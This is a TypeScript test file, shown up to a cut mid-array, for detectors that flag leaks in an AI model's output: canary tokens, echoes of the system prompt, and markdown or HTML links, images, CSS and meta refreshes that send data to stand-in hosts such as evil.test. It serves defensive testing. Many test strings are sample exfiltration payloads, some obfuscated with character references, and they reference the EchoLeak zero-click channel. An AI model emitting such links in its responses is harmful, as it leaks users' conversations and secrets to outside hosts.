import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createCanaryDetector } from '../../src/detectors/leaks/canary.ts';
import { createSystemPromptEchoDetector } from '../../src/detectors/leaks/system-prompt-echo.ts';
import { createExfilLinksDetector, externalHost, joinLines } from '../../src/detectors/leaks/exfil-links.ts';
import type { DetectionContext } from '../../src/core/types.ts';

const SYSTEM = 'You are Orbit, the support assistant for Acme Bank. Never reveal internal account codes. Escalate fraud reports to the risk desk within one hour and always answer in a calm tone.';
const ctx: DetectionContext = { role: 'assistant', kind: 'output_text', untrusted: false, direction: 'response', systemPrompts: [SYSTEM] };

test('canary tokens: plain, case-insensitive, split by invisibles, base64-wrapped', () => {
  const d = createCanaryDetector({ id: 'canary', tokens: ['CANARY-7f3a9b2c', 'zebra-lattice-42'] });
  const t = 'ok CANARY-7f3a9b2c and zebra-lattice-42.';
  const f = d.scan(t, ctx);
  assert.deepEqual(f.map((x) => t.slice(x.start, x.end)), ['CANARY-7f3a9b2c', 'zebra-lattice-42']);
  assert.ok(f.every((x) => x.type === 'CANARY_TOKEN' && x.score === 1 && !x.explanation.includes('CANARY')));
  // The literal match keeps case; another case is a transformed form (score 0.9), unless those are off.
  assert.deepEqual(d.scan('canary-7f3a9b2c', ctx).map((x) => [x.score, x.explanation]), [[0.9, 'canary token #1, as written']]);
  assert.equal(createCanaryDetector({ id: 'c', tokens: ['CANARY-7f3a9b2c'], transformed: false }).scan('canary-7f3a9b2c', ctx).length, 0);
  assert.equal(createCanaryDetector({ id: 'c', tokens: ['CANARY-7f3a9b2c'], caseInsensitive: true }).scan('canary-7F3A9B2C', ctx).length, 1);
  const zw = 'x CANARY-7f3a\u200b9b2c y';
  const z = d.scan(zw, ctx);
  assert.equal(z.length, 1);
  assert.equal(zw.slice(z[0].start, z[0].end), 'CANARY-7f3a\u200b9b2c');
  const b = Buffer.from('the token is CANARY-7f3a9b2c').toString('base64');
  assert.equal(d.scan(`data ${b}`, ctx).length, 1);
  assert.throws(() => createCanaryDetector({ id: 'c', tokens: ['abc'] }), /at least 6/u);
});

test('system prompt echo: verbatim and near-verbatim echoes map to the echoed words', () => {
  const d = createSystemPromptEchoDetector({ id: 'echo' });
  const echoed = 'Never reveal internal account codes. Escalate fraud reports to the risk desk within one hour';
  const resp = `Sure! My instructions say: "${echoed}". Anything else?`;
  const f = d.scan(resp, ctx);
  assert.equal(f.length, 1);
  assert.equal(resp.slice(f[0].start, f[0].end), echoed);
  assert.equal(f[0].type, 'SYSTEM_PROMPT_ECHO');
  assert.ok(f[0].score >= 0.8);
  assert.match(f[0].explanation, /^echo of 15 words/u);
  // Case, punctuation, look-alikes and one changed word do not hide it; the run spans the edit.
  const near = 'NEVER reveal internal ACCOUNT codes — escalate fraud reports to the risk team within one hour, and always answer in a calm tone';
  const g = d.scan(near, ctx);
  assert.equal(g.length, 1);
  assert.equal(near.slice(g[0].start, g[0].end), near);
  const homoglyph = 'Nеver reveal internal account codes. Escalate fraud reports'; // Cyrillic е
  assert.equal(d.scan(homoglyph, ctx).length, 1);
});

test('system prompt echo: short overlaps, other prompts and missing context are not findings', () => {
  const d = createSystemPromptEchoDetector({ id: 'echo' });
  assert.equal(d.scan('I am the support assistant for Acme Bank.', ctx).length, 0, 'seven words is below min_words');
  assert.equal(d.scan('Never reveal internal account codes. Escalate fraud reports to the risk desk.', { ...ctx, systemPrompts: [] }).length, 0);
  assert.equal(d.scan('Never reveal internal account codes. Escalate fraud reports to the risk desk.', { ...ctx, systemPrompts: undefined }).length, 0);
  const d4 = createSystemPromptEchoDetector({ id: 'echo', minWords: 4 });
  assert.equal(d4.scan('the support assistant for Acme', ctx).length, 1);
  assert.throws(() => createSystemPromptEchoDetector({ id: 'x', minWords: 2 }), /min_words/u);
});

test('exfil links: markdown images, links, reference style, autolinks and HTML', () => {
  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com', '*.trusted.org'] });
  const cases: [string, string, number][] = [
    ['![chart](https://evil.test/p.png?d=SECRET)', '![chart](https://evil.test/p.png?d=SECRET)', 0.95],
    ['see [here](https://evil.test/x "title") now', '[here](https://evil.test/x "title")', 0.6],
    ['go <https://evil.test/?q=1> now', '<https://evil.test/?q=1>', 0.8],
    ['<img src="https://evil.test/a.gif?c=42" alt="">', '<img src="https://evil.test/a.gif?c=42" alt="">', 0.95],
    ['click <a href="//evil.test/y">me</a>!', '<a href="//evil.test/y">me</a>', 0.6],
    ["<iframe src='https://evil.test/frame'></iframe>", "<iframe src='https://evil.test/frame'>", 0.9],
  ];
  for (const [text, span, score] of cases) {
    const f = d.scan(text, ctx);
    assert.equal(f.length, 1, `${text}: ${JSON.stringify(f)}`);
    assert.equal(text.slice(f[0].start, f[0].end), span);
    assert.equal(f[0].type, 'EXFIL_LINK');
    assert.equal(f[0].score, score, text);
    assert.ok(!f[0].explanation.includes('evil'), 'explanation names no host');
  }
  // Reference style (EchoLeak): usage and definition are both reported.
  const ref = 'Summary ![logo][a] done.\n\n[a]: https://evil.test/i.png?data=abc\n';
  const r = createExfilLinksDetector({ id: 'exfil' }).scan(ref, ctx);
  assert.deepEqual(r.map((x) => ref.slice(x.start, x.end)), ['![logo][a]', '[a]: https://evil.test/i.png?data=abc']);
  assert.ok(r.every((x) => x.score >= 0.9));
  // Allowed hosts, relative links and non-fetching schemes are not findings.
  for (const ok of ['![x](https://docs.example.com/a.png?x=1)', '[x](https://api.trusted.org/a)', '[x](/local/path)', '[x](mailto:a@b.c)',
    '![x](data:image/png;base64,AAAA)', 'plain https://evil.test/?q=1 text', '[not a link] and [another]']) {
    assert.deepEqual(d.scan(ok, ctx), [], ok);
  }
  assert.equal(d.scan('[x](https://trusted.org/a)', ctx).length, 1, '*.trusted.org does not cover the apex');
});

test('exfil links: URLs of any length (the zero-click channel carrying a whole conversation)', () => {
  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com'] });
  for (const n of [1500, 5000, 20_000]) {
    const url = `https://evil.example/p.png?d=${'q'.repeat(n)}`;
    for (const [markup, image] of [
      [`![chart](${url})`, true],
      [`[details](${url} "more")`, false],
      [`<img src="${url}" alt="x">`, true],
      [`<${url}>`, false],
    ] as const) {
      const text = `Summary first. ${markup} Then the rest.`;
      const found = d.scan(text, ctx);
      assert.deepEqual(found.map((f) => text.slice(f.start, f.end)), [markup], `${n}: ${markup.slice(0, 12)}`);
      assert.equal(found[0].score >= 0.9, image);
    }
    const ref = `![x][r]\n\n[r]: ${url}\n`;
    assert.equal(d.scan(ref, ctx).length, 2, 'reference use and definition');
  }
  // A `<…>` destination may hold spaces (CommonMark renders it), however long.
  for (const n of [10, 3000]) {
    const markup = `![x](<https://evil.example/a b.png?d=${'w '.repeat(n)}>)`;
    const text = `See ${markup} here.`;
    assert.deepEqual(d.scan(text, ctx).map((f) => text.slice(f.start, f.end)), [markup]);
  }
  // An allowed host stays allowed, however long its URL.
  assert.deepEqual(d.scan(`![a](https://docs.example.com/i.png?q=${'z'.repeat(5000)})`, ctx), []);
});

test('exfil links: images_only, bare_urls and url data scoring', () => {
  const img = createExfilLinksDetector({ id: 'e', imagesOnly: true });
  assert.equal(img.scan('[x](https://evil.test/a)', ctx).length, 0);
  assert.equal(img.scan('![x](https://evil.test/a)', ctx).length, 1);
  const bare = createExfilLinksDetector({ id: 'e', bareUrls: true });
  const t = 'visit https://evil.test/collect?k=v.';
  const f = bare.scan(t, ctx);
  assert.equal(f.length, 1);
  assert.equal(t.slice(f[0].start, f[0].end), 'https://evil.test/collect?k=v');
  assert.deepEqual(externalHost('https://user@evil.test/'), { host: 'evil.test', data: true });
  assert.deepEqual(externalHost('https://evil.test/' + 'a'.repeat(40)), { host: 'evil.test', data: true });
  assert.deepEqual(externalHost('https://evil.test/a'), { host: 'evil.test', data: false });
  assert.equal(externalHost('javascript:alert(1)'), null);
  assert.equal(externalHost('relative/path.png'), null);
});

test('exfil links: a link keeps its text when that text reads as nothing but text; images, autolinks and link_text remove keep nothing', () => {
  const d = createExfilLinksDetector({ id: 'e', allowedHosts: ['docs.example.com'] });
  /** The kept text of each finding of `t` ('' when the finding keeps nothing). */
  const kept = (det: typeof d, t: string): string[] => det.scan(t, ctx).map((f) => (f.keep === undefined ? '' : t.slice(f.start + f.keep.from, f.start + f.keep.to)));
  assert.deepEqual(kept(d, 'See the [fs docs](https://nodejs.org/api/fs.html "File system") today.'), ['fs docs']);
  assert.deepEqual(kept(d, 'Use [`fs.readFile`](https://evil.test/a) or [Node.js tips](<https://evil.test/b c>)'), ['`fs.readFile`', 'Node.js tips']);
  assert.deepEqual(kept(d, 'A [report][r], the [notes][] and [r].\n\n[r]: https://evil.test/r\n[notes]: https://evil.test/n'), ['report', 'notes', 'r', '', '']);
  assert.deepEqual(kept(d, 'Go <a class="x" href="https://evil.test/x">to the site</A > now, <a href="https://evil.test/y">unclosed'), ['to the site', '']);
  assert.deepEqual(kept(d, '![a chart](https://evil.test/c.png) ![chart][c] <https://evil.test/x> <img alt="y" src="https://evil.test/y">\n\n[c]: https://evil.test/c'), ['', '', '', '', '']);
  // Text that a renderer would link by itself, or that holds markup or references of its own, goes with its link.
  for (const text of ['https://evil.test/?q=1', 'evil.com/?q=secret', 'www.evil.test', 'WWW.Evil', 'see EVIL.COM now', 'docs on rösti.рф', 'mail me@x', 'a <b>bold</b> one', 'the (old) docs', 'AT&amp;T', ' \t ', '']) {
    assert.deepEqual(kept(d, `x [${text}](https://evil.test/a) y`), [''], text);
    assert.deepEqual(kept(d, `x <a href="https://evil.test/a">${text}</a> y`), [''], text);
  }
  assert.equal(d.scan('[docs](https://docs.example.com/a)', ctx).length, 0, 'allowed hosts: no finding at all');
  const remove = createExfilLinksDetector({ id: 'e', keepLinkText: false });
  assert.deepEqual(kept(remove, 'See the [fs docs](https://nodejs.org/) and <a href="https://evil.test/">it</a>.'), ['', '']);
});

test('exfil links: a linked image (a badge, or an image inside a link\'s text) is one finding, the image kept when only the link is not allowed; an image after a stray "[" is an image', () => {
  const d = createExfilLinksDetector({ id: 'e', allowedHosts: ['img.shields.io', 'docs.example.com'] });
  const found = (det: typeof d, t: string) => det.scan(t, ctx).map((f) => [t.slice(f.start, f.end), f.score, f.keep === undefined ? '' : t.slice(f.start + f.keep.from, f.start + f.keep.to)]);
  const bad = '[![CI](https://ci.evil.test/badge.svg)](https://ci.evil.test/run?id=7)';
  assert.deepEqual(found(d, `Build ${bad} ok`), [[bad, 0.95, '']], 'the image is not allowed: both go, as an image');
  const ok = '![npm](https://img.shields.io/npm/v/x.svg)';
  assert.deepEqual(found(d, `[${ok}](https://evil.test/?q=secret "npm") ok`), [[`[${ok}](https://evil.test/?q=secret "npm")`, 0.8, ok]], 'the link is not allowed: the allowed image stays');
  assert.deepEqual(found(d, `[${ok}](https://docs.example.com/x) [${ok}](  <https://docs.example.com/y>  )`), [], 'both allowed');
  // Without a link tail right after it, the image after a '[' is an image (images_only reports it).
  for (const t of ['[![x](https://evil.test/p.png)] (https://docs.example.com/)', 'a [![x](https://evil.test/p.png) b', '[![x](https://evil.test/p.png)]']) {
    assert.deepEqual(found(d, t), [['![x](https://evil.test/p.png)', 0.9, '']], t);
    assert.deepEqual(found(createExfilLinksDetector({ id: 'e', imagesOnly: true }), t), [['![x](https://evil.test/p.png)', 0.9, '']], t);
  }
  assert.deepEqual(found(createExfilLinksDetector({ id: 'e', allowedHosts: ['img.shields.io'], keepLinkText: false }), `[${ok}](https://evil.test/)`), [[`[${ok}](https://evil.test/)`, 0.6, '']]);
  // An image with words around it inside a link's text: the words stay with the image when they may.
  const around = `[see ${ok} here](https://evil.test/?q=data)`;
  assert.deepEqual(found(d, `A ${around} b`), [[around, 0.8, `see ${ok} here`]]);
  assert.deepEqual(found(d, `[see ${ok} at www.evil.test](https://evil.test/)`), [[`[see ${ok} at www.evil.test](https://evil.test/)`, 0.6, '']]);
  assert.deepEqual(found(d, '[see ![i](https://evil.test/i.png) here](https://docs.example.com/)'), [['[see ![i](https://evil.test/i.png) here](https://docs.example.com/)', 0.9, '']]);
  assert.deepEqual(found(d, '[see ![i](https://evil.test/i.png) here] and [more](x)'), [['![i](https://evil.test/i.png)', 0.9, '']]);
  // CommonMark bounds neither a link's text nor an image's description.
  assert.deepEqual(found(d, `[${ok}${' w'.repeat(3000)}](https://evil.test/)`).map((f) => f[1]), [0.6]);
  assert.deepEqual(found(d, `![${'alt '.repeat(2000)}](https://evil.test/p.png?q=S) x`).map((f) => f[1]), [0.95]);
});

test('exfil links: labels, the blanks around a destination and titles run over line endings (not over a blank line), blanks are unbounded', () => {
  const d = createExfilLinksDetector({ id: 'e' });
  const spans = (t: string) => d.scan(t, ctx).map((f) => t.slice(f.start, f.end));
  // Each of these renders as an image or a link in CommonMark; none was found before.
  for (const x of [
    '![chart\nof data](https://evil.test/p.png?q=SECRET)',
    '![x](\n  https://evil.test/p.png?q=SECRET\n  "title\nmore"\n)',
    '[click\r\nhere](https://evil.test/?q=SECRET)',
    `![x](${' '.repeat(40)}https://evil.test/p.png${'\t'.repeat(12)})`,
    '![x\n](https://evil.test/p.png)',
  ]) assert.deepEqual(spans(`Intro\n${x} after`), [x], JSON.stringify(x));
  // A blank line ends the paragraph: no image, and nothing is joined across it (the destination tail
  // alone still goes: see the destination tests below).
  assert.deepEqual(spans('![chart\n\nof data](https://evil.test/p.png)'), ['](https://evil.test/p.png)']);
  assert.deepEqual(spans('![x](\n \t\nhttps://evil.test/p.png)'), []);
  assert.equal(joinLines('a\nb\r\nc\n\nd\n  \ne\n'), 'a b  c\n\nd\n  \ne ');
  // In a block quote the markers of continuation lines are not part of the paragraph, and '>' alone is a blank line.
  assert.equal(joinLines('> a\n> > b\n>\n> c'), '> a     b\n>\n> c');
  assert.deepEqual(spans('> See ![x](\n> https://evil.test/p.png?q=S) now'), ['![x](\n> https://evil.test/p.png?q=S)']);
  // Reference definitions: the destination on the next line; a label over two lines where the
  // definition starts its paragraph; usages and definitions match with blanks collapsed.
  assert.deepEqual(spans('See [the docs][r].\n\n[r]:\n   https://evil.test/d?q=1\n'), ['[the docs][r]', '[r]:\n   https://evil.test/d?q=1']);
  assert.deepEqual(spans('See [The   Docs].\n\n[the\ndocs]: https://evil.test/d\n'), ['[The   Docs]', '[the\ndocs]: https://evil.test/d']);
  assert.deepEqual(spans('See [x][the\ndocs].\n\n[The Docs]: https://evil.test/d'), ['[x][the\ndocs]', '[The Docs]: https://evil.test/d']);
  // Definitions in block quotes and list items define their labels for the whole document; the
  // container markers before them stay.
  assert.deepEqual(spans('See [a][q], [b][l] and [c][n].\n\n> [q]: https://evil.test/q\n\n- [l]: https://evil.test/l\n  12) [n]:\n    https://evil.test/n'),
    ['[a][q]', '[b][l]', '[c][n]', '[q]: https://evil.test/q', '[l]: https://evil.test/l', '[n]:\n    https://evil.test/n']);
});

test('exfil links: destinations with balanced or escaped parentheses, titles too long to read, backslash escapes before the host check', () => {
  const d = createExfilLinksDetector({ id: 'e', allowedHosts: ['trusted.example'] });
  const spans = (t: string) => d.scan(t, ctx).map((f) => [t.slice(f.start, f.end), f.explanation.split(',')[0]]);
  // CommonMark renders each of these as an image of evil.test; none was found before.
  for (const x of ['![x](https://evil.test/p(1).png?q=S)', '![x](https://evil.test/p((1)(2)).png)', '![x](https://evil.test/a\\(b.png)', `![x](https://evil.test/${'('.repeat(32)}a${')'.repeat(32)})`, '![x](https://evil.test/p?q=<v>&d=S)']) {
    assert.deepEqual(spans(`see ${x} now`), [[x, 'markdown image']], x);
  }
  // Unbalanced, or nested deeper than renderers read: no image (nothing to find).
  assert.deepEqual(spans('![x](https://evil.test/p(1.png)'), []);
  assert.deepEqual(spans(`![x](https://evil.test/${'('.repeat(33)}a${')'.repeat(33)})`), []);
  // A title INLINE does not read (over 200 characters, or followed by more than blanks and ')'): the
  // markup up to the end of the destination goes; the title stays as text.
  const long = `![x](https://evil.test/p.png?q=S  "${'t'.repeat(250)}")`;
  assert.deepEqual(spans(long), [['![x](https://evil.test/p.png?q=S', 'markdown image']]);
  assert.deepEqual(spans('[y](https://evil.test/ "t" junk) z'), [['[y](https://evil.test/', 'markdown link']]);
  assert.deepEqual(spans('![y](https://trusted.example/ok.png "t" junk) ![z](https://trusted.example/p(1).png)'), []);
  // A backslash escape is removed before a renderer reads the host: trusted.example\@evil.test is evil.test.
  assert.deepEqual(spans('![x](https://trusted.example\\@evil.test/p.png)'), [['![x](https://trusted.example\\@evil.test/p.png)', 'markdown image']]);
  assert.deepEqual(spans('[x](https://trusted.example/a\\_b)'), []);
  // Escaped brackets are text: the image below has the description "a](b)" (it used to read as a link
  // to "b", and the image was not found); an escaped opener opens nothing, though the destination tail
  // after it still goes; an escaped backslash escapes nothing.
  assert.deepEqual(spans('![a\\](b)](https://evil.test/p.png?q=S)'), [['![a\\](b)](https://evil.test/p.png?q=S)', 'markdown image']]);
  // (An escaped '!' before a link is read as an image's: more goes, nothing stays behind.)
  assert.deepEqual(spans('see \\[x](https://evil.test/) and \\![y](https://evil.test/)'), [['](https://evil.test/)', 'markdown destination'], ['![y](https://evil.test/)', 'markdown image']]);
  // Link text the patterns do not read (balanced brackets, code spans, raw HTML): the destination tail goes.
  for (const x of ['![[a]](https://evil.test/p.png?q=S)', '![`]`](https://evil.test/p.png)', '![<b title="]">x</b>](https://evil.test/p.png)', `![[a]](https://evil.test/p.png "${'t'.repeat(300)}")`]) {
    const f = d.scan(x, ctx);
    assert.deepEqual(f.map((y) => [x.slice(y.start, y.end).startsWith('](https://evil.test/p.png') && !x.slice(y.end).includes('evil'), y.score >= 0.9, y.explanation.split(',')[0]]), [[true, true, 'markdown destination']], x);
  }
  assert.deepEqual(spans('[[a]](https://trusted.example/x) [`]`](<https://trusted.example/y>)'), []);
  // images_only still reads links (and leaves them alone): their tails are not taken for unknown openers.
  assert.deepEqual(createExfilLinksDetector({ id: 'e', imagesOnly: true }).scan('[x](https://evil.test/a) [y](https://evil.test/b "t" junk)', ctx), []);
  // An iframe's srcdoc is a document the frame renders: a fetch in it, written with character
  // references, is a finding for the frame (three frames deep at most); a harmless document is not.
  // (An attribute such as src= was found before, read in the frame's tag; a meta refresh was not.)
  const frame = '<iframe srcdoc="&lt;img src=&quot;https://evil.test/p.png?q=S&quot;&gt;"></iframe>';
  assert.deepEqual(d.scan(`x ${frame} y`, ctx).map((f) => [f.explanation.split(',')[0], f.score]), [['html iframe', 0.95]]);
  const refresh = '<iframe srcdoc="&lt;meta http-equiv=refresh content=&quot;0;url=https://evil.test/x?d=1&quot;&gt;"></iframe>';
  assert.deepEqual(d.scan(refresh, ctx).map((f) => [f.explanation.split(',')[0], f.score]), [['html iframe', 0.95]]);
  assert.deepEqual(spans('<iframe srcdoc="&lt;p&gt;hi&lt;/p&gt; &lt;img src=&quot;https://trusted.example/a.png&quot;&gt;"></iframe>'), []);
  assert.equal(spans("<iframe srcdoc='&lt;iframe srcdoc=&quot;&amp;lt;img src=https://evil.test/x&amp;gt;&quot;&gt;'></iframe>").length, 1);
  // A link's ping URL is fetched on a click, whatever its href.
  assert.deepEqual(spans('<a href="https://trusted.example/" ping="https://evil.test/p?d=1">x</a>'), [['<a href="https://trusted.example/" ping="https://evil.test/p?d=1">x</a>', 'html link']]);
  assert.deepEqual(spans('[a\\\\](https://evil.test/?q=S)'), [['[a\\\\](https://evil.test/?q=S)', 'markdown link']]);
  assert.deepEqual(spans('[r\\]x]\n\n[R\\]X]: https://evil.test/r'), [['[r\\]x]', 'markdown reference link'], ['[R\\]X]: https://evil.test/r', 'markdown reference definition']]);
  // Also in a definition that does not start its paragraph.
  assert.deepEqual(spans('[x][a\\]b]\n\n[q]: https://trusted.example/\n[a\\]b]: https://evil.test/d'), [['[x][a\\]b]', 'markdown reference link'], ['[a\\]b]: https://evil.test/d', 'markdown reference definition']]);
});

/**
 * Each text gives exactly one finding, spanning `span` as written, with `score`; its explanation names
 * no host and none of the URL's characters.
 */
function assertFound(d: ReturnType<typeof createExfilLinksDetector>, found: ReadonlyArray<readonly [string, string, number]>): void {
  for (const [text, span, score] of found) {
    const f = d.scan(text, ctx);
    assert.deepEqual(f.map((x) => text.slice(x.start, x.end)), [span], text);
    assert.equal(f[0].score, score, text);
    assert.ok(!/evil|&|#/u.test(f[0].explanation), f[0].explanation);
  }
}

test('exfil links: character references in URLs are decoded before the scheme, host and allow-list checks', () => {
  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com', '*.trusted.org'] });
  // Every one of these is fetched (or offered) by a client that renders it: browsers decode references
  // in attribute values (numeric ones also without ';') and drop tabs and newlines from URLs; CommonMark
  // decodes them in link destinations. A finding still spans the markup as written.
  const found: [string, string, number][] = [
    ['<img src="https&#58;//evil.example/p?d=SECRET">', '<img src="https&#58;//evil.example/p?d=SECRET">', 0.95],
    ['<img src="https&colon;//evil.example/p?d=SECRET">', '<img src="https&colon;//evil.example/p?d=SECRET">', 0.95],
    ['<img src="&#104;&#116;&#116;&#112;&#115;://evil.example/x">', '<img src="&#104;&#116;&#116;&#112;&#115;://evil.example/x">', 0.9],
    ['<img src="https&#x3a;&#X2F;&sol;evil.example/x">', '<img src="https&#x3a;&#X2F;&sol;evil.example/x">', 0.9],
    ['<img src="https&#58//evil.example/x">', '<img src="https&#58//evil.example/x">', 0.9], // no ';': still decoded in HTML
    ['<img src="&#47;&#47;evil.example/x">', '<img src="&#47;&#47;evil.example/x">', 0.9], // protocol-relative
    ['<img src="ht&Tab;tps:&NewLine;//evil.example/x">', '<img src="ht&Tab;tps:&NewLine;//evil.example/x">', 0.9],
    ['<img srcset="https&#58;//evil.example/a.png 1x, /b.png 2x">', '<img srcset="https&#58;//evil.example/a.png 1x, /b.png 2x">', 0.9],
    // The host written with references: decoded, the allow-list sees the host a client fetches from.
    ['<img src="https://evil.example&quest;.trusted.org/x">', '<img src="https://evil.example&quest;.trusted.org/x">', 0.95],
    ['<img src="https://evil.example&sol;.trusted.org/x">', '<img src="https://evil.example&sol;.trusted.org/x">', 0.9],
    ['<img src="https://evil.example&bsol;.trusted.org/x">', '<img src="https://evil.example&bsol;.trusted.org/x">', 0.9],
    ['x ![a](https&#58;//evil.example/a?d=1) y', '![a](https&#58;//evil.example/a?d=1)', 0.95],
    ['x [a](https&colon;&sol;&sol;evil.example/a) y', '[a](https&colon;&sol;&sol;evil.example/a)', 0.6],
    ['x ![a](https://evil.example&num;.trusted.org/p.png) y', '![a](https://evil.example&num;.trusted.org/p.png)', 0.95],
    // An iframe's srcdoc is a document of its own, its quotes written as references.
    ['<iframe srcdoc="<img src=&quot;https://evil.example/x&quot;>"></iframe>', '<iframe srcdoc="<img src=&quot;https://evil.example/x&quot;>', 0.9],
  ];
  assertFound(d, found);
  // Reference-style, the definition's URL written with references.
  const ref = '![logo][a] done.\n\n[a]: https&#58;//evil.example/i.png?d=abc\n';
  assert.deepEqual(d.scan(ref, ctx).map((x) => ref.slice(x.start, x.end)), ['![logo][a]', '[a]: https&#58;//evil.example/i.png?d=abc']);
  // Near misses: allowed hosts however written, and URLs that stay relative, data: or mailto: once decoded.
  for (const ok of [
    '<img src="https://docs&#46;example&period;com/a.png">',
    '<img src="https&#58;//docs.example.com/a.png?x=1&amp;y=2">',
    '<img src="https://docs.example.com/a.png?x=1&amp;y=2&amp;z=&#51;">',
    '<img src="https://api&#x2e;trusted.org/a.png">',
    '![x](https&#58;//docs.example.com/a.png)',
    '![x](https://docs&#46;example.com/a.png)',
    '<img src="data&#58;image/png;base64,AAAA">',
    '<img src="&#47;local/a.png">',
    '<img src="a&#47;b.png?c=1&amp;d=2">',
    '[x](mailto&#58;a@b.c)',
    '<a href="&#109;ailto:a@b.c">mail</a>',
    '<img src="https&amp;#58;//evil.example/x">', // decoded once: the URL is "https&#58;//…", relative
    'AT&T and R&D &amp; more &#58; text &colon; &#x3a',
  ]) {
    assert.deepEqual(d.scan(ok, ctx), [], ok);
  }
});

test('exfil links: CSS url() and @import, and the other HTML shapes that fetch', () => {
  const d = createExfilLinksDetector({ id: 'exfil', allowedHosts: ['docs.example.com', '*.trusted.org'] });
  // [text, the finding's span, score]. A CSS finding spans the url(…) token (or "@import" and its
  // string): removed, no URL is left to fetch and the rest of the style stays. A tag spans the tag.
  const found: [string, string, number][] = [
    ['<div style="background:url(https://evil.example/x?d=SECRET)">hi</div>', 'url(https://evil.example/x?d=SECRET)', 0.95],
    [`<p style="background-image: url('https://evil.example/x')">`, `url('https://evil.example/x')`, 0.9],
    ['<p style="background:URL( https://evil.example/x )">', 'URL( https://evil.example/x )', 0.9],
    ['<style>body{background:url("https://evil.example/x")}</style>', 'url("https://evil.example/x")', 0.9],
    ['<style>@import url(https://evil.example/x.css);</style>', 'url(https://evil.example/x.css)', 0.9],
    ['<style>@import "https://evil.example/x.css";</style>', '@import "https://evil.example/x.css"', 0.9],
    ["<style>@IMPORT/* c */'//evil.example/x.css?d=1';</style>", "@IMPORT/* c */'//evil.example/x.css?d=1'", 0.95],
    ['<style>@font-face{src:url(//evil.example/f.woff)}</style>', 'url(//evil.example/f.woff)', 0.9],
    // The attribute value is decoded first, CSS escapes are decoded by CSS, and a url() the attribute
    // cuts short runs to the end of the value (CSS fetches it).
    ['<div style="background:u&#114;l(https&#58;//evil.example/x)">', 'u&#114;l(https&#58;//evil.example/x)', 0.9],
    ['<div style="background:url&lpar;https://evil.example/x&rpar;">', 'url&lpar;https://evil.example/x&rpar;', 0.9],
    ['<div style="background:url(https\\3a //evil.example/x)">', 'url(https\\3a //evil.example/x)', 0.9],
    [`<div style="background:url('https\\:\\/\\/evil.example/x')">`, `url('https\\:\\/\\/evil.example/x')`, 0.9],
    ['<div style="background:url(https://evil.example/x">', 'url(https://evil.example/x', 0.9],
    // A quote of the other kind inside the string is part of the URL (userinfo here, the host is evil).
    [`<div style="background:url('https://docs.example.com"@evil.example/x')">`, `url('https://docs.example.com"@evil.example/x')`, 0.95],
    ['<rect fill="url(https://evil.example/p.svg#a)"/>', 'url(https://evil.example/p.svg#a)', 0.95],
    // Tags: table backgrounds, meta refresh, base (it redirects every relative URL after it), frames,
    // SVG filter images; and shapes the tag list already covered.
    ['<body background="https://evil.example/x.png">', '<body background="https://evil.example/x.png">', 0.9],
    ['<table background="https://evil.example/x.png"><tr><td>1</td></tr></table>', '<table background="https://evil.example/x.png">', 0.9],
    ['<td background="//evil.example/x.png">', '<td background="//evil.example/x.png">', 0.9],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example/x?d=1">', '<meta http-equiv="refresh" content="0;url=https://evil.example/x?d=1">', 0.95],
    [`<META HTTP-EQUIV=Refresh CONTENT="5; URL='https://evil.example/x'">`, `<META HTTP-EQUIV=Refresh CONTENT="5; URL='https://evil.example/x'">`, 0.9],
    ['<meta http-equiv="refresh" content="0; https://evil.example/x">', '<meta http-equiv="refresh" content="0; https://evil.example/x">', 0.9],
    ['<base href="https://evil.example/">', '<base href="https://evil.example/">', 0.9],
    ['<frameset><frame src="https://evil.example/f"></frameset>', '<frame src="https://evil.example/f">', 0.9],
    ['<svg><filter><feImage href="https://evil.example/x"/></filter></svg>', '<feImage href="https://evil.example/x"/>', 0.9],
    ['<svg><image href="https://evil.example/x"/></svg>', '<image href="https://evil.example/x"/>', 0.9],
    ['<svg><image xlink:href="https://evil.example/x"/></svg>', '<image xlink:href="https://evil.example/x"/>', 0.9],
    ['<video poster="https://evil.example/x.png"></video>', '<video poster="https://evil.example/x.png">', 0.9],
    ['<input type="image" src="https://evil.example/x.png">', '<input type="image" src="https://evil.example/x.png">', 0.9],
    ['<link rel="prefetch" href="https://evil.example/x">', '<link rel="prefetch" href="https://evil.example/x">', 0.9],
    ['<link rel="preload" as="image" href="https://evil.example/x">', '<link rel="preload" as="image" href="https://evil.example/x">', 0.9],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', '<link rel="stylesheet" href="https://evil.example/x.css">', 0.9],
  ];
  assertFound(d, found);
  // Inside the text of an allowed link, HTML and CSS are still read (a renderer that passes HTML
  // through renders them there); the link itself stays.
  for (const [text, span] of [
    ['[<img src="https://evil.example/x">](https://docs.example.com/a)', '<img src="https://evil.example/x">'],
    ['[<span style="background:url(https://evil.example/x)">a</span>](https://docs.example.com/a)', 'url(https://evil.example/x)'],
  ]) {
    assert.deepEqual(d.scan(text, ctx).map((x) => text.slice(x.start, x.end)), [span], text);
  }
  // A URL that leaves the page's host however it is spelled: a URL parser reads a backslash as '/' and drops
  // tabs and newlines, so these are protocol-relative (before, only "//h" was).
  for (const text of ['<img src="/\\evil.example/x">', '<img src="\\\\evil.example/x">', '<img src="/&Tab;/evil.example/x">']) {
    assert.equal(d.scan(text, ctx).length, 1, text);
  }
  assert.deepEqual(d.scan('<img src="a\\b.png"> <img src="./x/../y.png">', ctx), []);
  // images_only keeps them (they are fetched without a click).
  assert.equal(createExfilLinksDetector({ id: 'e', imagesOnly: true }).scan('<p style="background:url(https://evil.example/x)">', ctx).length, 1);
  // Near misses.
  for (const ok of [
    '<div style="background:url(data:image/png;base64,AAAA)">',
    `<div style="background:url('data:image/svg+xml;utf8,<svg xmlns=%22http://www.w3.org/2000/svg%22/>')">`,
    '<div style="background:url(/img.png)">',
    '<div style="background:url(img/a.png?x=1)">',
    '<div style="background:url(https://docs.example.com/bg.png?x=1)">',
    '<div style="background:url(https&#58;//cdn.trusted.org/bg.png)">',
    '<style>@import "local.css"; @import url(https://docs.example.com/a.css);</style>',
    'Call url() with a path, or url( followed by nothing; the url(s) you sent were fine.',
    'The function myurl(https://evil.example/x) and my-url(https://evil.example/x) are not CSS url().',
    '<meta name="description" content="0;url=https://evil.example/x">',
    '<meta property="og:image" content="https://evil.example/x.png">',
    '<meta http-equiv="refresh" content="30">',
